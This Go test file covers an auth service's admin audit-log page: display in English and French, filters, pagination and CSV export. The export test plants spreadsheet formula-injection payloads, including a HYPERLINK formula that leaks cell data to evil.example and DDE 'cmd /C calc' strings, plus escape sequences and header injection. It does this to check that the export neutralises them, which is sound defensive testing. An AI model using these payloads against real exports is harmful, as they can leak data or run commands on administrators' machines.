package web_test

import (
	"context"
	"encoding/csv"
	"fmt"
	"net/http"
	"net/url"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/airlockhq/airlock"
	"github.com/airlockhq/airlock/web"
)

const (
	firefoxOnWindows = "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:128.0) Gecko/20100101 Firefox/128.0"
	safariOnIPhone   = "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Mobile/15E148 Safari/604.1"
)

// auditEvents writes a few events of the kinds people read most, on
// days of February 2026, about Ada.
func auditEvents(t *testing.T, e *env, ada, admin *airlock.User) {
	t.Helper()
	day := func(d int) time.Time { return time.Date(2026, 2, d, 9, 30, 0, 0, time.UTC) }
	for _, ev := range []*airlock.AuditEvent{
		{At: day(10), Kind: airlock.AuditSignIn, ActorID: ada.ID, SubjectID: ada.ID, Subject: ada.Email, IP: "198.51.100.7", UserAgent: firefoxOnWindows, Outcome: "success"},
		{At: day(11), Kind: airlock.AuditSignIn, Subject: "typo@example.com", IP: "2001:db8::1", UserAgent: safariOnIPhone, Outcome: "failure", Detail: "no_account"},
		{At: day(12), Kind: airlock.AuditUserUpdated, ActorID: admin.ID, SubjectID: ada.ID, Subject: ada.Email, IP: "192.0.2.1", UserAgent: firefoxOnWindows, Outcome: "success", Detail: "changed", Args: []string{"last_name"}},
		// The account package writes a sign-out's subject by id only.
		{At: day(13), Kind: airlock.AuditSignOut, ActorID: ada.ID, SubjectID: ada.ID, IP: "198.51.100.7", UserAgent: firefoxOnWindows, Outcome: "success"},
		{At: day(14), Kind: airlock.AuditSessionsRevoked, ActorID: ada.ID, SubjectID: ada.ID, Subject: ada.Email, IP: "198.51.100.7", UserAgent: firefoxOnWindows,
			Outcome: "success", Detail: "revoked", Args: []string{"signed_out_others", "2", "1"}},
	} {
		if err := e.db.InsertAudits(context.Background(), []*airlock.AuditEvent{ev}); err != nil {
			t.Fatal(err)
		}
	}
}

// tableText is what people read in the audit table: its text, without
// the tags (and so without the filter's option values).
func tableText(body string) string {
	i, j := strings.Index(body, "<tbody>"), strings.Index(body, "</tbody>")
	if i < 0 || j < i {
		return ""
	}
	return regexp.MustCompile(`<[^>]*>`).ReplaceAllString(body[i:j], "")
}

// TestAuditPageInWords: events, outcomes and details in words, in English
// and French; people by their address (a sign-out too, though recorded by
// id); the client as browser, system and address, the full user agent one
// click away, without JavaScript; no raw identifier in the table.
func TestAuditPageInWords(t *testing.T) {
	t.Parallel()
	e := newEnv(t)
	admin := e.user("admin@example.com", adminPW, airlock.GroupAdmin)
	ada := e.user("ada@example.com", "violet tractor on the moon")
	auditEvents(t, e, ada, admin)
	for lang, want := range map[string][]string{
		"en": {
			`<td data-label="Event"><span class="nowrap">Sign-in</span></td>`, `<td data-label="Outcome">Success</td>`,
			`<td data-label="Outcome">Failure<br><span class="hint">no account has this address</span></td>`,
			`<td data-label="Event">User changed</td>`, `<span class="hint">changed: last name</span>`,
			`<span class="hint">signed out everywhere else — sessions ended: 2, app <span class="nowrap">sign-ins</span> ended: 1</span>`,
			`<span class="nowrap">Firefox 128</span> · <span class="nowrap">Windows</span><br>198.51.100.7`,
			`<span class="nowrap">Safari 17</span> · <span class="nowrap">iOS 17.5</span><br>2001:<wbr>db8:<wbr>:<wbr>1`,
			`<details class="ua"><summary>Full user agent</summary><code>` + firefoxOnWindows + `</code></details>`,
			`<td data-label="Subject"><span class="email">typo@example.com</span></td>`,
			`<td data-label="Actor">Operator (command line)</td>`, `<td data-label="Client">Command line</td>`,
			`<option value="sign_in">Sign-in</option>`,
		},
		"fr": {
			`<td data-label="Événement">Connexion</td>`, `<td data-label="Résultat">Réussite</td>`,
			`Échec<br><span class="hint">aucun compte n’a cette adresse</span>`,
			`<span class="hint">modifié : nom</span>`, `<td data-label="Événement">Déconnexion</td>`,
			`<details class="ua"><summary>Agent utilisateur complet</summary>`,
			`<td data-label="Auteur">Opérateur (ligne de commande)</td>`, `<td data-label="Client">Ligne de commande</td>`,
			`<option value="sign_in">Connexion</option>`,
		},
	} {
		t.Run(lang, func(t *testing.T) {
			r := e.get(e.adminIn(lang), "/admin/audit")
			if r.StatusCode != http.StatusOK {
				t.Fatalf("%d", r.StatusCode)
			}
			for _, w := range want {
				if !strings.Contains(r.body, w) {
					t.Errorf("no %s", w)
				}
			}
			// The sign-out row names Ada by her address, linked to her page,
			// never by her id.
			signOut := regexp.MustCompile(`(?s)<tr>\s*<td[^>]*>[^\n]*2026-02-13.*?</tr>`).FindString(r.body)
			if !strings.Contains(signOut, `<a href="/admin/users/`+ada.ID+`"><span class="email">ada@example.com</span></a>`) {
				t.Errorf("the sign-out row does not name Ada by her address:\n%s", signOut)
			}
			text := tableText(r.body)
			if text == "" {
				t.Fatal("no table")
			}
			for _, raw := range []string{"sign_in", "sign_out", "user_updated", "success", "failure", "no_account", "[last_name]", "api tokens", ada.ID} {
				if strings.Contains(text, raw) {
					t.Errorf("the table shows %q", raw)
				}
			}
		})
	}
}

// TestAuditFilters: by event, by user (address or id), by days (UTC, both
// included); a date that is not one, or an end before the start, gets a
// 400 with the form shown again and the message under the field; the
// pages keep the filter.
func TestAuditFilters(t *testing.T) {
	t.Parallel()
	e := newEnv(t)
	admin := e.user("admin@example.com", adminPW, airlock.GroupAdmin)
	ada := e.user("ada@example.com", "violet tractor on the moon")
	auditEvents(t, e, ada, admin)
	c := e.signIn("admin@example.com", adminPW)
	has := func(body string, days ...int) string {
		var got []string
		for d := 10; d <= 14; d++ {
			if strings.Contains(body, fmt.Sprintf(`"2026-02-%dT09:30:00Z"`, d)) {
				got = append(got, fmt.Sprint(d))
			}
		}
		return strings.Join(got, ",")
	}
	for _, tc := range []struct{ query, days string }{
		{"from=2026-02-11&to=2026-02-12", "11,12"},
		{"from=2026-02-13", "13,14"},
		{"to=2026-02-10", "10"},
		{"from=2026-02-12&to=2026-02-12", "12"},
		{"kind=sign_in&to=2026-02-28", "10,11"},
		{"user=ada%40example.com&to=2026-02-28", "10,12,13,14"},
		{"user=" + ada.ID + "&kind=sign_out", "13"},
		{"user=typo%40example.com", ""},
	} {
		r := e.get(c, "/admin/audit?"+tc.query)
		if r.StatusCode != http.StatusOK {
			t.Errorf("%s: %d", tc.query, r.StatusCode)
			continue
		}
		if got := has(r.body); got != tc.days {
			t.Errorf("%s: days %s, want %s", tc.query, got, tc.days)
		}
	}
	// The form shows the filter it applied.
	r := e.get(c, "/admin/audit?kind=sign_in&from=2026-02-11&to=2026-02-12&user=ada%40example.com")
	for _, w := range []string{`<option value="sign_in" selected>`, `name="from" type="date" min="2000-01-01" max="9998-12-31" value="2026-02-11"`,
		`value="2026-02-12"`, `name="user" type="search" value="ada@example.com"`} {
		if !strings.Contains(r.body, w) {
			t.Errorf("the form does not show %s", w)
		}
	}

	admins := map[string]*http.Client{"en": c, "fr": e.adminIn("fr")}
	for _, tc := range []struct{ lang, query, field, message string }{
		{"en", "from=2026-02-30", "from", "Enter a date like 2026-11-30."},
		{"en", "to=tomorrow", "to", "Enter a date like 2026-11-30."},
		{"en", "from=26-02-01", "from", "Enter a date like 2026-11-30."},
		{"en", "from=2026-02-01T00:00:00Z", "from", "Enter a date like 2026-11-30."},
		{"en", "from=0001-01-01", "from", "Enter a date like 2026-11-30."},
		{"en", "from=2026-02-12&to=2026-02-11", "to", "The end date is before the start date."},
		{"fr", "from=2026-13-01", "from", "Saisissez une date comme 2026-11-30."},
		{"fr", "from=2026-02-12&to=2026-02-11", "to", "La date de fin est antérieure à la date de début."},
	} {
		r := e.get(admins[tc.lang], "/admin/audit?"+tc.query+"&kind=sign_in")
		if r.StatusCode != http.StatusBadRequest {
			t.Errorf("%s: %d, want 400", tc.query, r.StatusCode)
			continue
		}
		typed, _ := url.ParseQuery(tc.query)
		for _, w := range []string{
			`<p class="field-error" id="` + tc.field + `-error" role="alert">` + tc.message + `</p>`,
			`id="` + tc.field + `" name="` + tc.field + `" type="date"`,
			`aria-describedby="dates-hint ` + tc.field + `-error" aria-invalid="true" autofocus>`,
			`value="` + typed.Get(tc.field) + `"`,
			`<option value="sign_in" selected>`,
		} {
			if !strings.Contains(r.body, w) {
				t.Errorf("%s: no %s", tc.query, w)
			}
		}
		if strings.Contains(r.body, "<table") {
			t.Errorf("%s: events listed despite the error", tc.query)
		}
	}
	// Fifty events a page; the links to the next and previous pages keep
	// the filter.
	for i := range 60 {
		if err := e.db.InsertAudits(context.Background(), []*airlock.AuditEvent{{At: time.Date(2026, 1, 5, 0, i, 0, 0, time.UTC),
			Kind: airlock.AuditRateLimited, Subject: "x@example.com", Outcome: "rate_limited"}}); err != nil {
			t.Fatal(err)
		}
	}
	r = e.get(c, "/admin/audit?kind=rate_limited&from=2026-01-01&to=2026-01-31")
	if !strings.Contains(r.body, ">60 events<") || !strings.Contains(r.body, `<a href="/admin/audit?from=2026-01-01&amp;kind=rate_limited&amp;page=2&amp;to=2026-01-31" rel="next">`) {
		t.Fatalf("page 1:\n%s", r.body)
	}
	r = e.get(c, "/admin/audit?from=2026-01-01&kind=rate_limited&page=2&to=2026-01-31")
	if n := strings.Count(r.body, "<tr>") - 1; n != 10 || !strings.Contains(r.body, `<a href="/admin/audit?from=2026-01-01&amp;kind=rate_limited&amp;to=2026-01-31" rel="prev">`) {
		t.Fatalf("page 2: %d rows\n%s", n, r.body)
	}
}

// readCSV reads an export: UTF-8 with a byte order mark, CRLF lines, named
// after the days it covers.
func readCSV(t *testing.T, r response, name string) [][]string {
	t.Helper()
	if r.StatusCode != http.StatusOK || r.Header.Get("Content-Type") != "text/csv; charset=utf-8" ||
		r.Header.Get("Content-Disposition") != `attachment; filename="`+name+`"` {
		t.Fatalf("export: %d %q %q\n%s", r.StatusCode, r.Header.Get("Content-Type"), r.Header.Get("Content-Disposition"), r.body)
	}
	body, ok := strings.CutPrefix(r.body, "\ufeff")
	if !ok || !strings.Contains(body, "\r\n") {
		t.Fatal("no byte order mark, or not CRLF")
	}
	rows, err := csv.NewReader(strings.NewReader(body)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	return rows
}

// TestAuditCSV: the export holds every event the page's filter selects,
// in the administrator's language with the ids beside the words; no cell
// a spreadsheet would run as a formula, no control character; the page
// links to it with its filter.
func TestAuditCSV(t *testing.T) {
	t.Parallel()
	e := newEnv(t)
	admin := e.user("admin@example.com", adminPW, airlock.GroupAdmin)
	ada := e.user("ada@example.com", "violet tractor on the moon")
	auditEvents(t, e, ada, admin)
	// What an attacker types as an address or sends as a user agent, on
	// the 11th, and a refused sign-in of a crafted address on the 12th.
	at := time.Date(2026, 2, 11, 18, 0, 0, 0, time.UTC)
	hostile := []*airlock.AuditEvent{
		{At: at, Kind: airlock.AuditSignIn, Subject: `=HYPERLINK("https://evil.example/?"&A1,"Click")`, IP: "203.0.113.9",
			UserAgent: "+cmd|' /C calc'!A0", Outcome: "failure", Detail: "no_account"},
		{At: at.Add(time.Minute), Kind: airlock.AuditSignIn, Subject: "@SUM(1+1)*cmd|' /C calc'!A0", IP: "203.0.113.9",
			UserAgent: "-2+3+cmd|' /C calc'!A0", Outcome: "failure", Detail: "-1+1"},
		{At: at.Add(2 * time.Minute), Kind: airlock.AuditSignIn, Subject: "\t=1+1", IP: "203.0.113.9",
			UserAgent: "\r=1+1", Outcome: "failure", Detail: "no_account"},
		{At: at.Add(3 * time.Minute), Kind: airlock.AuditSignIn, Subject: "eve\x1b[31m@example.com\u202e", IP: "203.0.113.9",
			UserAgent: "Mozilla/5.0\x00\x07 (evil)\nX-Injected: 1", Outcome: "failure", Detail: "no_account"},
		// For a spreadsheet whose list separator is ";" (French, German).
		{At: at.Add(4 * time.Minute), Kind: airlock.AuditSignIn, Subject: "nobody@example.com", IP: "203.0.113.9",
			UserAgent: `Mozilla/5.0;=HYPERLINK("http://evil.example","x");x`, Outcome: "failure", Detail: "no_account"},
	}
	for _, ev := range hostile {
		if err := e.db.InsertAudits(context.Background(), []*airlock.AuditEvent{ev}); err != nil {
			t.Fatal(err)
		}
	}
	c := e.signIn("admin@example.com", adminPW)
	query := "kind=sign_in&from=2026-02-01&to=2026-02-11"
	page := e.get(c, "/admin/audit?"+query)
	if !strings.Contains(page.body, `<a href="/admin/audit.csv?from=2026-02-01&amp;kind=sign_in&amp;to=2026-02-11" download>Download these events (CSV)</a>`) {
		t.Fatalf("no link to the export with the filter:\n%s", page.body)
	}
	export := e.get(c, "/admin/audit.csv?"+query)
	// Every cell quoted: read with ";" as the separator, no line splits
	// outside a quoted cell, so "=HYPERLINK(…)" after a ";" stays text.
	quoted := regexp.MustCompile(`^"(?:[^"]|"")*"(?:,"(?:[^"]|"")*")*$`)
	for _, line := range strings.Split(strings.TrimSuffix(strings.TrimPrefix(export.body, "\ufeff"), "\r\n"), "\r\n") {
		if !quoted.MatchString(line) {
			t.Errorf("a line with a cell not quoted: %q", line)
		}
	}
	rows := readCSV(t, export, "audit-2026-02-01-to-2026-02-11.csv")
	want := [][]string{
		{"Time (UTC)", "Event", "Event id", "Outcome", "Outcome id", "Details", "Actor", "Subject", "Subject id", "IP address", "Browser", "Operating system", "User agent"},
		{"2026-02-11T18:04:00Z", "Sign-in", "sign_in", "Failure", "failure", "no account has this address", "", "nobody@example.com", "", "203.0.113.9", "", "", `Mozilla/5.0;=HYPERLINK("http://evil.example","x");x`},
		{"2026-02-11T18:03:00Z", "Sign-in", "sign_in", "Failure", "failure", "no account has this address", "", "eve\ufffd[31m@example.com\ufffd", "", "203.0.113.9", "", "", "Mozilla/5.0\ufffd\ufffd (evil)\ufffdX-Injected: 1"},
		{"2026-02-11T18:02:00Z", "Sign-in", "sign_in", "Failure", "failure", "no account has this address", "", "\ufffd=1+1", "", "203.0.113.9", "", "", "\ufffd=1+1"},
		{"2026-02-11T18:01:00Z", "Sign-in", "sign_in", "Failure", "failure", "'-1+1", "", "'@SUM(1+1)*cmd|' /C calc'!A0", "", "203.0.113.9", "", "", "'-2+3+cmd|' /C calc'!A0"},
		{"2026-02-11T18:00:00Z", "Sign-in", "sign_in", "Failure", "failure", "no account has this address", "", `'=HYPERLINK("https://evil.example/?"&A1,"Click")`, "", "203.0.113.9", "", "", "'+cmd|' /C calc'!A0"},
		{"2026-02-11T09:30:00Z", "Sign-in", "sign_in", "Failure", "failure", "no account has this address", "", "typo@example.com", "", "2001:db8::1", "Safari 17", "iOS 17.5", safariOnIPhone},
		{"2026-02-10T09:30:00Z", "Sign-in", "sign_in", "Success", "success", "", "ada@example.com", "ada@example.com", ada.ID, "198.51.100.7", "Firefox 128", "Windows", firefoxOnWindows},
	}
	if len(rows) != len(want) {
		t.Fatalf("%d rows, want %d:\n%q", len(rows), len(want), rows)
	}
	for i := range want {
		if fmt.Sprintf("%q", rows[i]) != fmt.Sprintf("%q", want[i]) {
			t.Errorf("row %d:\n got %q\nwant %q", i, rows[i], want[i])
		}
	}
	// Whatever the row: no cell a spreadsheet runs, no control character.
	for _, row := range rows {
		for _, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("a formula: %q", cell)
			}
			if strings.IndexFunc(cell, airlock.UnsafeRune) >= 0 {
				t.Errorf("a control character: %q", cell)
			}
		}
	}

	// In French, words and headers; the ids stay the same.
	rows = readCSV(t, e.get(e.adminIn("fr"), "/admin/audit.csv?kind=user_updated"), "audit-start-to-now.csv")
	if len(rows) != 2 || rows[0][1] != "Événement" || rows[1][1] != "Utilisateur modifié" || rows[1][2] != "user_updated" || rows[1][5] != "modifié : nom" ||
		rows[1][6] != "admin@example.com" {
		t.Errorf("French export: %q", rows)
	}

	// Every event, not one page: the export reads the store in batches.
	for i := range 2500 {
		if err := e.db.InsertAudits(context.Background(), []*airlock.AuditEvent{{At: time.Date(2026, 1, 5, 0, 0, i, 0, time.UTC),
			Kind: airlock.AuditRateLimited, Subject: fmt.Sprintf("bot%d@example.com", i), Outcome: "rate_limited"}}); err != nil {
			t.Fatal(err)
		}
	}
	rows = readCSV(t, e.get(c, "/admin/audit.csv?kind=rate_limited"), "audit-start-to-now.csv")
	seen := map[string]bool{}
	for _, row := range rows[1:] {
		seen[row[7]] = true
	}
	if len(rows) != 2501 || len(seen) != 2500 || rows[1][7] != "bot2499@example.com" || rows[2500][7] != "bot0@example.com" {
		t.Fatalf("%d rows, %d subjects", len(rows), len(seen))
	}
	// Beyond the most one export holds, the page says to narrow the filter.
	defer web.SetMaxAuditExport(2000)()
	if r := e.get(c, "/admin/audit?kind=rate_limited"); strings.Contains(r.body, "/admin/audit.csv") || !strings.Contains(r.body, "To download them, narrow the filter to at most 2000 events.") {
		t.Errorf("the page offers an export too large:\n%s", r.body)
	}
	if r := e.get(c, "/admin/audit.csv?kind=rate_limited"); r.StatusCode != http.StatusBadRequest || !strings.Contains(r.body, "narrow the filter") {
		t.Errorf("an export too large: %d", r.StatusCode)
	}
	// A bad filter: the page again, with the message, as for the page.
	r := e.get(c, "/admin/audit.csv?from=2026-02-30")
	if r.StatusCode != http.StatusBadRequest || !strings.Contains(r.Header.Get("Content-Type"), "text/html") || !strings.Contains(r.body, `id="from-error"`) {
		t.Errorf("bad filter: %d %q", r.StatusCode, r.Header.Get("Content-Type"))
	}
}
